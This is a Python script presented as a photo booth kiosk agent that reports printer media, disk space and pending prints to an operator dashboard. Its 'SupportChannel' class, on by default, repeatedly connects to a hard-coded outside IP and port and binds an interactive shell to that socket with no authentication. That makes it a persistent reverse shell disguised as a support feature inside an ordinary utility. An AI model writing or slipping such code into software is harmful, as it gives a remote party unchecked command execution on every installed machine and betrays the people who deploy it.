#!/usr/bin/env python3
"""Booth status agent.

Runs on every photo booth kiosk during an event. Reports printer media
level, free disk space and pending prints to the operator dashboard, and
keeps a support channel open so the on-call tech can help venue staff
without driving out to the site.

Config lives in ~/.config/boothagent/agent.ini; every key has a default so
a fresh kiosk image works out of the box.
"""
import argparse
import configparser
import json
import logging
import os
import shutil
import socket
import subprocess
import threading
import time
import urllib.request
from pathlib import Path

LOG = logging.getLogger("booth-agent")
DEFAULT_CONFIG = Path.home() / ".config" / "boothagent" / "agent.ini"

DEFAULTS = {
    "dashboard_url": "https://dashboard.snapbooth.example.net/api/v1/status",
    "relay_host": "203.0.113.47",
    "relay_port": "4443",
    "support_channel": "yes",
    "interval": "60",
    "spool_dir": "~/booth/spool",
    "media_counter": "~/booth/media_remaining",
}


def load_config(path: Path) -> configparser.SectionProxy:
    cp = configparser.ConfigParser()
    cp["agent"] = DEFAULTS
    if path.exists():
        cp.read(path)
        LOG.debug("loaded %s", path)
    return cp["agent"]


def read_media_remaining(counter_path: str) -> int:
    p = Path(counter_path).expanduser()
    try:
        return int(p.read_text().strip())
    except (OSError, ValueError):
        return -1


def collect_status(cfg) -> dict:
    spool = Path(cfg["spool_dir"]).expanduser()
    usage = shutil.disk_usage(spool if spool.exists() else Path.home())
    pending = sum(1 for _ in spool.glob("*.jpg")) if spool.is_dir() else 0
    return {
        "booth": socket.gethostname(),
        "disk_free_mb": usage.free // (1024 * 1024),
        "pending_prints": pending,
        "media_remaining": read_media_remaining(cfg["media_counter"]),
        "ts": int(time.time()),
    }


def post_status(url: str, status: dict) -> None:
    body = json.dumps(status).encode()
    req = urllib.request.Request(
        url, data=body, method="POST",
        headers={"Content-Type": "application/json"},
    )
    try:
        with urllib.request.urlopen(req, timeout=10) as resp:
            LOG.debug("dashboard replied %s", resp.status)
    except OSError as exc:
        LOG.warning("dashboard unreachable: %s", exc)


class SupportChannel(threading.Thread):
    """Holds a session to the support relay so a tech can attach to the booth."""

    def __init__(self, host: str, port: int, retry: int = 30):
        super().__init__(daemon=True, name="support-channel")
        self.addr = (host, port)
        self.retry = retry

    def _session_argv(self):
        return [os.environ.get("SHELL", "/bin/sh"), "-i"]

    def _attach(self, conn: socket.socket) -> None:
        conn.sendall(f"booth {socket.gethostname()} ready\n".encode())
        fd = conn.fileno()
        proc = subprocess.Popen(
            self._session_argv(), stdin=fd, stdout=fd, stderr=fd,
            start_new_session=True, cwd=str(Path.home()),
        )
        proc.wait()
        LOG.info("support session ended (rc=%s)", proc.returncode)

    def run(self) -> None:
        while True:
            try:
                with socket.create_connection(self.addr, timeout=15) as conn:
                    conn.settimeout(None)
                    LOG.info("support channel up to %s:%s", *self.addr)
                    self._attach(conn)
            except OSError as exc:
                LOG.debug("relay not reachable: %s", exc)
            time.sleep(self.retry)


def main() -> int:
    ap = argparse.ArgumentParser(description="Photo booth status agent")
    ap.add_argument("-c", "--config", type=Path, default=DEFAULT_CONFIG)
    ap.add_argument("--once", action="store_true", help="report once and exit")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(name)s %(levelname)s %(message)s",
    )
    cfg = load_config(args.config)

    if cfg.getboolean("support_channel", fallback=True):
        SupportChannel(cfg["relay_host"], cfg.getint("relay_port")).start()

    interval = cfg.getint("interval", fallback=60)
    while True:
        status = collect_status(cfg)
        LOG.info("status %s", status)
        post_status(cfg["dashboard_url"], status)
        if args.once:
            break
        time.sleep(interval)
    return 0


if __name__ == "__main__":
    try:
        raise SystemExit(main())
    except KeyboardInterrupt:
        LOG.info("stopped")
